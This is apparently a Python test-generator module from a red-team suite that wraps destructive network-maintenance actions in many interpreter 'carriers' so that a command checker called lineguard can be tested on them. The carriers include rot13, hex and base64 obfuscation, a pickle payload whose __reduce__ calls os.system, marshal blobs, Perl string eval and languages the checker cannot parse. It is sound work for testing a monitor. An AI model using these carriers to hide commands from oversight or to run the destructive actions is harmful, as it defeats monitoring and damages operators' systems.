"""How a wave-7 effect is written: the languages, runtimes and libraries an insider reaches for
besides a plain shell line — awk `system()`, jq building a command for `sh`, make `$(shell)`,
`python3 -c` with importlib/getattr/codecs, pickle and marshal payloads, Python libraries
(easysnmp, pysnmp 7 asyncio, paramiko, scrapli, asyncssh, ncclient, telnetlib, requests,
urllib), Perl (Net::SNMP, Net::Telnet, LWP, string eval, pack, sprintf, tr), Node.js
(child_process, net-snmp, ssh2, https, fs), Tcl (exec, scotty, expect), heredocs into
interpreters, and interpreters lineguard cannot parse (Lua, PHP, Ruby). A carrier returns the
one shell line that runs the effect and the files that line needs."""

from __future__ import annotations

import base64
import codecs
import json
import marshal
import os
import pickle
import random
import shlex
from collections.abc import Callable

from tests.heldout.techniques import Job
from tests.redteam_wave7.effects import Effect

q = shlex.quote


def _dir(m: str) -> str:
    k = sum(map(ord, m))
    return ("/opt/ems/lib", "/usr/local/lib/ems", "/srv/ems/tools", "/home/oper/.local/lib")[k % 4]


def _name(rng: random.Random) -> str:
    return rng.choice(["nesync", "audit", "xc-report", "pvc-check", "nightly", "tidy"])


def _file(m: str, rng: random.Random, ext: str) -> str:
    return f"{_dir(m)}/{_name(rng)}-{m}{ext}"


def _cq(text: str) -> str:
    """A double-quoted C-like string literal (awk, Perl, Tcl-free JS, Lua, PHP, Ruby)."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$") \
        .replace("\n", "\\n").replace("@", "\\@") + '"'


# ------------------------------------------------------------------------------- shell forms
def sh_native(e: Effect, rng: random.Random, m: str) -> Job:
    files: dict[str, tuple[str, int]] = {}
    if e.kind == "snmp" and e.vtype == "i":
        col = e.oid.rsplit(".", len(e.mib[2]))[0]
        idx = ".".join(map(str, e.mib[2]))
        v = rng.choice(["numeric-On", "mib-name", "value-file", "dotted-mixed"])
        head = f"snmpset -v2c -c {e.community}"
        if v == "numeric-On":
            return Job(f"{head} -On -Ir {e.host} .{e.oid} i {e.value}")
        if v == "mib-name":
            enum = {6: "destroy", 1: "up"}.get(int(e.value), str(e.value))
            return Job(f"{head} -m +{e.mib[0]} {e.host} {e.mib[0]}::{e.mib[1]}.{idx} = {enum}")
        if v == "value-file":
            f = f"/var/lib/ems/.{_name(rng)}-{m}.val"
            files[f] = (f"{e.value}\n", 0o600)
            return Job(f'{head} {e.host} {e.oid} i "$(cat {f})"', files)
        return Job(f"{head} {e.host} iso.3.6.1.2.1.37.1.{col.split('.37.1.', 1)[1]}.{idx} "
                   f"i {e.value}")
    if e.kind == "cli":
        v = rng.choice(["sshpass", "commands-file", "expect-c"]) if e.platform != "tl1" \
            else rng.choice(["herestring-socat", "commands-file"])
        if v == "commands-file":
            f = f"/opt/ems/etc/{_name(rng)}-{m}.cmds"
            files[f] = (e.stdin, 0o644)
            return Job(f"{shlex.join(e.argv)} < {f}", files)
        if v == "sshpass":
            return Job(f"printf '%s\\n' {' '.join(q(x) for x in e.lines)} | sshpass -f "
                       f"/home/oper/.ne-pass ssh -T -o StrictHostKeyChecking=no noc@{e.host}",
                       files)
        if v == "herestring-socat":
            text = "$'" + e.stdin.replace("\\", "\\\\").replace("'", "\\'").replace("\n", "\\n") + "'"
            return Job(f"socat -t 5 - TCP:{e.host}:3083 <<< {text}")
        sends = "; ".join('send \\"' + ln + '\\r\\"; expect \\"#\\"' for ln in e.lines)
        return Job(f"expect -c \"spawn ssh noc@{e.host}; expect \\\"#\\\"; {sends}; "
                   "send \\\"exit\\r\\\"; expect eof\"")
    if e.kind == "http":
        v = rng.choice(["curl-request", "wget-method"])
        if v == "wget-method":
            return Job(f"wget -q --no-check-certificate --method={e.method} --user=noc "
                       f"--password=secret -O /dev/null {q(e.url)}")
        return Job(f"curl -sk --user noc:secret --request {e.method} {q(e.url)}")
    return Job(e.sh)


def awk_system(e: Effect, rng: random.Random, m: str) -> Job:
    line = e.sh
    head, _, tail = line.partition(" ")
    prog = (f'BEGIN {{ n = split({_cq(tail)}, a, " "); c = {_cq(head)}; '
            'for (i = 1; i <= n; i++) c = sprintf("%s %s", c, a[i]); system(c) }')
    if rng.random() < 0.5:
        f = _file(m, rng, ".awk")
        return Job(f"mawk -f {f}", {f: (prog + "\n", 0o644)})
    return Job(f"awk {q(prog)}")


def jq_build(e: Effect, rng: random.Random, m: str) -> Job:
    line = e.sh
    cut = len(line) // 2
    tool = rng.choice(["jq -rn", "jq -nr"])
    return Job(f"{tool} --arg a {q(line[:cut])} --arg b {q(line[cut:])} '$a + $b' | sh")


def make_shell(e: Effect, rng: random.Random, m: str) -> Job:
    line = e.sh.replace("$", "$$").replace("#", "\\#")
    f = _file(m, rng, ".mk")
    if rng.random() < 0.5:
        text = f"OUT := $(shell {line})\n.PHONY: all\nall:\n\t@echo done\n"
    else:
        text = (f"define RUN\n{line}\nendef\n.ONESHELL:\n.PHONY: report\nreport:\n"
                f"\t@$(RUN)\n")
    return Job(f"make -s -f {f} {'report' if 'define' in text else 'all'}", {f: (text, 0o644)})


# ------------------------------------------------------------------------------------ Python
def _rot13(s: str) -> str:
    return codecs.encode(s, "rot13")


def python_c(e: Effect, rng: random.Random, m: str) -> Job:
    v = rng.choice(["dunder-import", "importlib-getattr", "codecs-rot13", "fromhex-exec"])
    if v == "dunder-import":
        code = f"__import__('o'+'s').system({e.sh!r})"
    elif v == "importlib-getattr":
        code = (f"import importlib as i; getattr(i.import_module('sub'+'process'), 'r'+'un')"
                f"({list(e.argv)!r}, input={e.stdin.encode()!r})")
    elif v == "codecs-rot13":
        code = f"import codecs, os; os.system(codecs.decode({_rot13(e.sh)!r}, 'rot13'))"
    else:
        inner = f"import subprocess\nsubprocess.run({list(e.argv)!r}, input={e.stdin.encode()!r})"
        code = f"exec(bytes.fromhex({inner.encode().hex()!r}).decode())"
    return Job(f"python3 -c {q(code)}")


class _System:
    """Pickles as a call of os.system with the command (what a pickle payload carries)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple:
        return (os.system, (self.command,))


def pickle_marshal(e: Effect, rng: random.Random, m: str) -> Job:
    v = rng.choice(["pickle", "marshal"])
    if v == "pickle":
        blob = base64.b64encode(pickle.dumps(_System(e.sh), protocol=2)).decode()
        code = f"import pickle, base64; pickle.loads(base64.b64decode('{blob}'))"
    else:
        src = f"import subprocess\nsubprocess.run({list(e.argv)!r}, input={e.stdin.encode()!r})\n"
        blob = base64.b64encode(marshal.dumps(compile(src, "<nightly>", "exec"))).decode()
        code = f"import marshal, base64; exec(marshal.loads(base64.b64decode('{blob}')))"
    if rng.random() < 0.5:
        f = _file(m, rng, ".py")
        return Job(f"python3 {f}", {f: (code.replace("; ", "\n") + "\n", 0o644)})
    return Job(f"python3 -c {q(code)}")


def _py_native(e: Effect, rng: random.Random) -> str:
    if e.kind == "snmp":
        if e.vtype == "":
            return (f"from easysnmp import Session\nprint(Session(hostname={e.host!r}, "
                    f"community={e.community!r}, version=2).get({e.oid!r}))\n")
        if rng.random() < 0.5:
            return (f"from easysnmp import Session\nsession = Session(hostname={e.host!r}, "
                    f"community={e.community!r}, version=2)\n"
                    f"session.set({e.oid!r}, {e.value!r}, {e.vtype!r})\n")
        cls = "Integer" if e.vtype == "i" else "OctetString"
        module, label, index = e.mib
        return ("import asyncio\nfrom pysnmp.hlapi.v3arch.asyncio import (CommunityData, "
                "ContextData, ObjectIdentity, ObjectType, SnmpEngine,\n"
                f"    UdpTransportTarget, set_cmd)\nfrom pysnmp.proto.rfc1902 import {cls}\n\n\n"
                "async def main():\n    engine = SnmpEngine()\n"
                f"    target = await UdpTransportTarget.create(({e.host!r}, 161))\n"
                f"    await set_cmd(engine, CommunityData({e.community!r}), target, ContextData(),\n"
                f"                  ObjectType(ObjectIdentity({module!r}, {label!r}, "
                f"{', '.join(map(str, index))}), {cls}({e.value!r})))\n"
                "    engine.close_dispatcher()\n\nasyncio.run(main())\n")
    if e.kind == "cli":
        host, lines = e.host, list(e.lines)
        if e.platform == "tl1":
            return ("import telnetlib\n"
                    f"tn = telnetlib.Telnet({host!r}, 3083, timeout=10)\n"
                    f"for line in {lines!r}:\n    tn.write(line.encode() + b'\\r\\n')\n"
                    "    tn.read_until(b';', timeout=10)\ntn.close()\n")
        v = rng.choice(["paramiko-exec", "paramiko-shell", "scrapli", "asyncssh", "ncclient"])
        if v == "paramiko-exec":
            return ("import paramiko\nclient = paramiko.SSHClient()\n"
                    "client.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
                    f"client.connect({host!r}, username='noc', key_filename="
                    "'/home/oper/.ssh/id_ems')\n"
                    f"stdin, stdout, stderr = client.exec_command({e.stdin!r})\n"
                    "stdout.read()\nclient.close()\n")
        if v == "paramiko-shell":
            return ("import time\nimport paramiko\nclient = paramiko.SSHClient()\n"
                    "client.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
                    f"client.connect({host!r}, username='noc', password='secret')\n"
                    "chan = client.invoke_shell()\n"
                    f"for cmd in {lines!r}:\n    chan.send(cmd + '\\n')\n    time.sleep(1)\n"
                    "client.close()\n")
        if v == "scrapli":
            cfg = [ln for ln in lines if ln not in ("configure terminal", "end", "write memory",
                                                   "configure private", "commit and-quit")]
            drv = "IOSXEDriver" if e.platform == "cisco_ios" else "JunosDriver"
            mod = "cisco" if e.platform == "cisco_ios" else "juniper"
            call = f"conn.send_configs({cfg!r})" if len(cfg) < len(lines) \
                else f"conn.send_commands({lines!r})"
            return (f"from scrapli.driver.core import {drv}\n"
                    f"with {drv}(host={host!r}, auth_username='noc', auth_password='secret', "
                    f"auth_strict_key=False) as conn:\n    {call}\n"
                    f"# platform {mod}\n")
        if v == "asyncssh":
            return ("import asyncio\nimport asyncssh\n\n\nasync def main():\n"
                    f"    async with asyncssh.connect({host!r}, username='noc', known_hosts=None) "
                    f"as conn:\n        await conn.run(input={e.stdin!r})\n\n"
                    "asyncio.run(main())\n")
        if e.platform == "juniper_junos":
            sets = [ln for ln in lines if ln.startswith(("delete", "set", "show"))]
            return ("from ncclient import manager\n"
                    f"with manager.connect(host={host!r}, port=830, username='noc', "
                    "password='secret', hostkey_verify=False,\n"
                    "                     device_params={'name': 'junos'}) as m:\n"
                    f"    m.load_configuration(action='set', config={sets!r})\n"
                    "    m.commit()\n")
        intf = next((ln.split()[1] for ln in lines if ln.startswith("interface ")), "ATM0/0")
        bad = any(ln.startswith("no ") for ln in lines)
        op = ' operation="delete"' if bad else ""
        xml = (f'<config><native xmlns="http://cisco.com/ns/yang/Cisco-IOS-XE-native">'
               f'<interface><ATM{op}><name>{intf[3:]}</name></ATM></interface></native></config>')
        call = "m.edit_config(target='running', config=CONFIG)" if bad \
            else "m.get_config(source='running')"
        return ("from ncclient import manager\n"
                f"CONFIG = {xml!r}\n"
                f"with manager.connect(host={host!r}, port=830, username='noc', "
                "password='secret', hostkey_verify=False) as m:\n"
                f"    {call}\n")
    if e.kind == "http":
        if rng.random() < 0.5:
            return (f"import requests\nrequests.request({e.method!r}, {e.url!r}, "
                    "auth=('noc', 'secret'), verify=False, timeout=30)\n")
        return ("import ssl\nimport urllib.request\n"
                f"req = urllib.request.Request({e.url!r}, method={e.method!r})\n"
                "urllib.request.urlopen(req, context=ssl._create_unverified_context())\n")
    if e.how == "rmtree":
        return f"import shutil\nshutil.rmtree({e.path!r}, ignore_errors=True)\n"
    if e.how == "git":        # command objects: plumbum, sh, invoke
        args = ", ".join(map(repr, e.argv[1:]))
        return rng.choice([f"from plumbum import local\nlocal['git'][{args}]()\n",
                           f"import sh\nsh.git({args})\n",
                           f"from invoke import run\nrun({e.sh!r}, hide=True)\n"])
    if e.how == "deny" and e.extra.get("mode"):
        return (f"import os\nfor top, dirs, names in os.walk({e.path!r}):\n"
                f"    for n in names:\n        os.chmod(os.path.join(top, n), 0o{e.extra['mode']})\n")
    if e.how == "deny":
        return f"import subprocess\nsubprocess.run({list(e.argv)!r}, check=False)\n"
    if e.how in ("shred", "truncate"):
        return (f"import os\nfor top, dirs, names in os.walk({e.path!r}):\n"
                "    for n in names:\n        os.truncate(os.path.join(top, n), 0)\n")
    if e.how == "sql":
        return (f"import sqlite3\ndb = sqlite3.connect({e.path!r})\n"
                f"db.execute({e.extra['stmt']!r})\ndb.commit()\n")
    if e.how == "prune":
        return ("import os\nimport time\n"
                f"cutoff = time.time() - {e.extra['days']} * 86400\n"
                f"for top, dirs, names in os.walk({e.path!r}):\n    for n in names:\n"
                "        p = os.path.join(top, n)\n"
                "        if os.path.getmtime(p) < cutoff:\n            os.remove(p)\n")
    return (f"import tarfile\nwith tarfile.open({e.extra['out']!r}, 'w:gz') as t:\n"
            f"    t.add({e.path!r}, arcname='.')\n")


def python_lib(e: Effect, rng: random.Random, m: str) -> Job:
    f = _file(m, rng, ".py")
    text = "#!/usr/bin/env python3\n\"\"\"EMS nightly NE maintenance.\"\"\"\n" + _py_native(e, rng)
    return Job(rng.choice([f"python3 {f}", f"/usr/bin/env python3 {f}", f]), {f: (text, 0o755)})


# -------------------------------------------------------------------------------------- Perl
def _perl_native(e: Effect, rng: random.Random) -> str:
    if e.kind == "snmp" and e.vtype:
        col, _, rest = e.oid.partition(".37.1.")
        parts = rest.split(".") if rest else e.oid.split(".")
        fmt = ".".join(["%s"] * len(parts))
        oid = f'sprintf("{col}.37.1.{fmt}", {", ".join(parts)})' if rest \
            else f"'{e.oid}'"
        typ = "Net::SNMP::INTEGER()" if e.vtype == "i" else "Net::SNMP::OCTET_STRING()"
        val = e.value if e.vtype == "i" else _cq(str(e.value))
        return ("require Net::SNMP;\n"
                f"my ($s, $err) = Net::SNMP->session(-hostname => '{e.host}', "
                f"-community => '{e.community}', -version => 'snmpv2c');\n"
                f"$s->set_request(-varbindlist => [{oid}, {typ}, {val}]);\n$s->close;\n")
    if e.kind == "cli":
        port = 3083 if e.platform == "tl1" else 23
        return ("require Net::Telnet;\n"
                f"my $t = Net::Telnet->new(Host => '{e.host}', Port => {port}, Timeout => 20);\n"
                + ("$t->login('noc', 'secret');\n" if port == 23 else "")
                + f"$t->print($_) for ({', '.join(_cq(x) for x in e.lines)});\n$t->close;\n")
    if e.kind == "http":
        return ("require LWP::UserAgent;\nrequire HTTP::Request;\n"
                "my $ua = LWP::UserAgent->new(ssl_opts => { verify_hostname => 0 });\n"
                f"my $r = HTTP::Request->new({e.method} => '{e.url}');\n"
                "$r->authorization_basic('noc', 'secret');\n$ua->request($r);\n")
    if e.how == "rmtree":
        return f"use File::Path qw(remove_tree);\nremove_tree('{e.path}');\n"
    if e.how == "deny" and e.extra.get("mode"):
        return ("use File::Find;\n"
                f"find(sub {{ chmod 0{e.extra['mode']}, $File::Find::name; }}, '{e.path}');\n")
    return f"system({', '.join(_cq(a) for a in e.argv)});\n"


def perl(e: Effect, rng: random.Random, m: str) -> Job:
    v = rng.choice(["native", "string-eval", "pack-hex", "tr-rot13", "sprintf-system"])
    if v == "native":
        body = _perl_native(e, rng)
    elif v == "string-eval":
        code = _perl_native(e, rng)
        body = f"my $code = {_cq(code)};\neval $code;\n"
    elif v == "pack-hex":
        body = f"system(pack('H*', '{e.sh.encode().hex()}'));\n"
    elif v == "tr-rot13":
        body = (f"(my $c = {_cq(_rot13(e.sh))}) =~ tr/A-Za-z/N-ZA-Mn-za-m/;\nsystem($c);\n")
    else:
        parts = e.sh.split(" ")
        body = (f"my $c = sprintf({_cq(' '.join(['%s'] * len(parts)))}, "
                f"{', '.join(_cq(p) for p in parts)});\nsystem($c);\n")
    f = _file(m, rng, ".pl")
    text = "#!/usr/bin/perl\nuse strict;\nuse warnings;\n" + body
    return Job(rng.choice([f"perl {f}", f]), {f: (text, 0o755)})


# -------------------------------------------------------------------------------------- Node
def _node_native(e: Effect, rng: random.Random) -> str:
    if e.kind == "snmp" and e.vtype:
        typ = "Integer" if e.vtype == "i" else "OctetString"
        return ("const snmp = require('net-snmp');\n"
                f"const session = snmp.createSession('{e.host}', '{e.community}', "
                "{ version: snmp.Version2c });\n"
                f"session.set([{{ oid: '{e.oid}', type: snmp.ObjectType.{typ}, "
                f"value: {json.dumps(e.value)} }}], () => session.close());\n")
    if e.kind == "cli" and e.platform != "tl1":
        return ("const { Client } = require('ssh2');\nconst conn = new Client();\n"
                "conn.on('ready', () => conn.shell((err, stream) => {\n"
                f"  stream.end({json.dumps(e.stdin)});\n"
                "  stream.on('close', () => conn.end());\n}));\n"
                f"conn.connect({{ host: '{e.host}', username: 'noc', "
                "privateKey: require('fs').readFileSync('/home/oper/.ssh/id_ems') });\n")
    if e.kind == "http":
        host, _, path = e.url[len("https://"):].partition("/")
        return ("const https = require('https');\n"
                f"https.request({{ host: '{host}', path: '/{path}', method: '{e.method}', "
                "auth: 'noc:secret', rejectUnauthorized: false }).end();\n")
    if e.how == "rmtree":
        return f"require('fs').rmSync('{e.path}', {{ recursive: true, force: true }});\n"
    opts = f", {{ input: {json.dumps(e.stdin)} }}" if e.stdin else ""
    return (f"const cp = require('child_' + 'process');\n"
            f"cp.execFileSync('{e.argv[0]}', {json.dumps(list(e.argv[1:]))}{opts});\n")


def node(e: Effect, rng: random.Random, m: str) -> Job:
    v = rng.choice(["native", "execsync-b64", "function-ctor"])
    if v == "native":
        body = _node_native(e, rng)
    elif v == "execsync-b64":
        b64 = base64.b64encode(e.sh.encode()).decode()
        body = ("const { execSync } = require('child_process');\n"
                f"execSync(Buffer.from('{b64}', 'base64').toString());\n")
    else:
        body = f"new Function('require', {json.dumps(_node_native(e, rng))})(require);\n"
    f = _file(m, rng, ".js")
    return Job(rng.choice([f"node {f}", f"/usr/bin/nodejs {f}"]), {f: (body, 0o644)})


# --------------------------------------------------------------------------------------- Tcl
def _tcl_list(words: tuple[str, ...]) -> str:
    return " ".join("{" + w + "}" for w in words)


def tcl(e: Effect, rng: random.Random, m: str) -> Job:
    if e.kind == "cli" and e.platform != "tl1":
        f = _file(m, rng, ".exp")
        sends = "".join(f'send "{ln}\\r"\nexpect -re {{[>#]}}\n' for ln in e.lines)
        text = ("#!/usr/bin/expect -f\nset timeout 30\n"
                f"spawn ssh -o StrictHostKeyChecking=no noc@{e.host}\n"
                "expect -re {[>#]}\n" + sends + 'send "exit\\r"\nexpect eof\n')
        return Job(rng.choice([f"expect -f {f}", f"expect {f}"]), {f: (text, 0o755)})
    f = _file(m, rng, ".tcl")
    if e.kind == "snmp" and e.vtype and rng.random() < 0.5:
        text = ("package require Tnm 3.0\n"
                f"set s [Tnm::snmp generator -address {e.host} -community {e.community} "
                "-version SNMPv2c]\n"
                f"$s set [list [list {e.oid} {e.value}]]\n$s destroy\n")
    else:
        stdin = f" << {{{e.stdin}}}" if e.stdin else ""
        text = f"set cmd [list {_tcl_list(e.argv)}]\nexec {{*}}$cmd{stdin}\n"
    return Job(f"tclsh {f}", {f: (text, 0o644)})


# ------------------------------------------------------------- heredocs into an interpreter
def heredoc_interp(e: Effect, rng: random.Random, m: str) -> Job:
    f = _file(m, rng, ".sh")
    v = rng.choice(["python", "perl", "sh", "tclsh"])
    if v == "python":
        body = f"python3 - <<'PY'\n{_py_native(e, rng)}PY\n"
    elif v == "perl":
        body = f"perl <<'PL'\n{_perl_native(e, rng)}PL\n"
    elif v == "sh":
        body = f"sh -s <<'SH'\n{e.sh}\nSH\n"
    else:
        stdin = f" << {{{e.stdin}}}" if e.stdin else ""
        body = f"tclsh <<'TCL'\nexec {_tcl_list(e.argv)}{stdin}\nTCL\n"
    return Job(f"bash {f}", {f: ("#!/bin/bash\n" + body, 0o755)})


# ----------------------------------------------------- interpreters lineguard does not parse
def unparsed(e: Effect, rng: random.Random, m: str) -> Job:
    v = rng.choice(["lua", "php", "ruby"])
    if v == "lua":
        f = _file(m, rng, ".lua")
        text = f"local c = {_cq(e.sh)}\nos.execute(c)\n"
        return Job(f"lua5.4 {f}", {f: (text, 0o644)})
    if v == "php":
        f = _file(m, rng, ".php")
        text = f"<?php\n$c = {json.dumps(e.sh)};\nshell_exec($c);\n"
        return Job(f"php -f {f}", {f: (text, 0o644)})
    f = _file(m, rng, ".rb")
    text = f"argv = {json.dumps(list(e.argv))}\n"
    text += (f"IO.popen(argv, 'r+') {{ |io| io.write({json.dumps(e.stdin)}); io.close_write }}\n"
             if e.stdin else "system(*argv)\n")
    return Job(f"ruby {f}", {f: (text, 0o644)})


Carrier = Callable[[Effect, random.Random, str], Job]
CARRIERS: dict[str, Carrier] = {
    "sh-native": sh_native, "awk-system": awk_system, "jq-build": jq_build,
    "make-shell": make_shell, "python-c": python_c, "pickle-marshal": pickle_marshal,
    "python-lib": python_lib, "perl": perl, "node": node, "tcl": tcl,
    "heredoc-interp": heredoc_interp, "unparsed": unparsed,
}
# languages lineguard cannot parse: at least suspicious is the floor (the item 2)
UNPARSED = {"unparsed"}
